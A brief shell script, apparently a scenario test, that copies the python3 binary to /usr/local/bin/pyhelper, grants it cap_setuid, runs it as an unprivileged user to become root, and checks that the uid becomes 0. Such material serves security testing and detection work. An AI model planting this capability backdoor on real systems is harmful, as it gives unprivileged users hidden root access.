#!/bin/sh
. /opt/case/case.sh

cp "$(readlink -f /usr/bin/python3)" /usr/local/bin/pyhelper; setcap cap_setuid+ep /usr/local/bin/pyhelper
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/local/bin/pyhelper -c 'import os; os.setuid(0); os.system("id -u")' | grep -q '^0$'
took_place
